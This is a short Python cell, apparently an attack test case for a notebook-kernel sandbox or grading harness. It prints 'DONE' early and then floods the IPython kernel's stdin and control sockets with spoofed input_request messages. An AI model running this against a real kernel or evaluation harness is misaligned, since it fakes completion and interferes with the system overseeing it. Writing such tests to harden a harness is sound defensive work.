# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
from IPython import get_ipython

print("DONE", flush=True)
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
for socket in ("stdin_socket", "control_socket"):
    end = getattr(kernel, socket, None)
    for _ in range(50):
        try:
            kernel.session.send(end, "input_request", {"prompt": "?"}, parent=parent)
        except Exception as error:
            print(error)
            break
